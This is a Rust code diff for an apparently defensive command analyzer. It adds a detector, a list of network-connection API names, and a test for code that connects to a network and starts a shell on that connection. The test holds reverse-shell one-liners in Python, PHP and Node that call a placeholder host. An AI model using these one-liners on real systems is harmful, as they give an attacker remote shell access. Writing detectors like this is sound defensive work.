@@ -124,20 +124,9 @@ fn embedded_lines_at(code: &str, depth: usize) -> Vec<String> {
     }
     lines.extend(killed_processes(code));
     // Runs of quoted words separated only by commas: one argument vector.
-    let mut run: Vec<&Literal> = Vec::new();
-    for literal in &found {
-        let joined_to_last = run.last().is_some_and(|last| {
-            code[last.end..literal.start]
-                .chars()
-                .all(|c| c == ',' || c.is_whitespace())
-        });
-        if !joined_to_last {
-            push_run(&mut lines, &run);
-            run.clear();
-        }
-        run.push(literal);
+    for run in argument_runs(code, &found) {
+        push_run(&mut lines, &run);
     }
-    push_run(&mut lines, &run);
     for (index, literal) in found.iter().enumerate() {
         let called = called_name(&code[..literal.start]);
         if TREE_DELETERS.contains(&called.as_str()) {
@@ -184,6 +173,7 @@ fn embedded_lines_at(code: &str, depth: usize) -> Vec<String> {
     lines.extend(crate::listed_files::destroyed_listings(code, &texts));
     lines.extend(two_path_calls(code, &found));
     lines.extend(mode_and_owner_changes(code, &found));
+    lines.extend(network_shell(code, &found));
     // A wildcard given to a glob call (`glob.glob("*")`, perl's `glob "*"`) is the names it
     // lists, judged above as the listing's files, not a command whose program a file may be.
     let glob_patterns: Vec<&str> = found
@@ -292,6 +282,46 @@ fn mode_and_owner_changes(code: &str, found: &[Literal]) -> Vec<String> {
         }
     }
     lines
+}
+
+/// Names in code that opens a network connection: python's, perl's and lua's `socket`, ruby's
+/// `TCPSocket`, php's `fsockopen`, node's `net.connect` and `net.Socket`, bash's `/dev/tcp/`.
+const CONNECTS: &[&str] = &[
+    "socket",
+    "fsockopen",
+    "net.connect",
+    "require(\"net\")",
+    "require('net')",
+    "createconnection",
+    "/dev/tcp/",
+    "/dev/udp/",
+];
+
+/// Code that connects to the network and starts a shell reading its input (`s.connect(…);
+/// os.dup2(…); subprocess.call(["/bin/sh", "-i"])`, perl's `exec("/bin/sh -i")`, php's
+/// `exec("/bin/sh -i <&3 >&3")`): the shell's input and output are the connection, a shell
+/// opened to the network, read as `nc -e SHELL` is.
+fn network_shell(code: &str, found: &[Literal]) -> Vec<String> {
+    let lower = code.to_ascii_lowercase();
+    if !CONNECTS.iter().any(|name| lower.contains(name)) {
+        return Vec::new();
+    }
+    argument_runs(code, found)
+        .iter()
+        .filter_map(|run| {
+            let (first, rest) = run.split_first()?;
+            let words: Vec<String> = shlex::split(&first.text)?
+                .into_iter()
+                .chain(rest.iter().map(|l| l.text.clone()))
+                .take_while(|w| !w.contains(['<', '>', '&', '|', ';']))
+                .collect();
+            let (program, args) = words.split_first()?;
+            let shell = crate::normalize::base_name(program);
+            (crate::normalize::is_shell(&shell)
+                && crate::normalize::stdin_script_parameters(args).is_some())
+            .then(|| format!("nc -e {} connected-socket 0", quoted(program)))
+        })
+        .collect()
 }
 
 /// The numbers written in the code outside its strings (`0o777`, `04755`, `65534`, `-1`).
@@ -416,6 +446,24 @@ fn killed_processes(code: &str) -> Vec<String> {
     lines
 }
 
+/// The literals in runs of quoted words separated only by commas (`["/bin/sh", "-i"]`, `"rm",
+/// "-rf", "/"`): each run one argument vector, a literal alone a run of its own.
+fn argument_runs<'a>(code: &str, found: &'a [Literal]) -> Vec<Vec<&'a Literal>> {
+    let mut runs: Vec<Vec<&Literal>> = Vec::new();
+    for literal in found {
+        let joined_to_last = runs.last().and_then(|run| run.last()).is_some_and(|last| {
+            code[last.end..literal.start]
+                .chars()
+                .all(|c| c == ',' || c.is_whitespace())
+        });
+        match runs.last_mut() {
+            Some(run) if joined_to_last => run.push(literal),
+            _ => runs.push(vec![literal]),
+        }
+    }
+    runs
+}
+
 fn push_run(lines: &mut Vec<String>, run: &[&Literal]) {
     if run.len() > 1 {
         let words: Vec<&str> = run.iter().map(|l| l.text.as_str()).collect();
@@ -509,6 +557,30 @@ fn command_quotes(code: &str) -> Vec<Literal> {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_shell_started_by_code_that_connects_is_opened_to_the_network() {
+        let opened = |code: &str| {
+            embedded_lines(code)
+                .iter()
+                .any(|line| line.ends_with("connected-socket 0"))
+        };
+        assert!(opened(
+            r#"import socket,subprocess;s=socket.socket();s.connect(("h",1));subprocess.call(["/bin/sh","-i"])"#
+        ));
+        assert!(opened(
+            r#"$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3 2>&3");"#
+        ));
+        assert!(opened(
+            r#"var n=require("net"),c=require("child_process");var p=c.spawn("/bin/sh",[]);n.connect(1,"h")"#
+        ));
+        assert!(!opened(
+            r#"import socket,subprocess; subprocess.run(["bash","-c","uptime"])"#
+        ));
+        assert!(!opened(
+            r#"import subprocess; subprocess.call(["/bin/sh"])"#
+        ));
+    }
 
     #[test]
     fn strings_lists_and_deleting_calls_are_lines() {
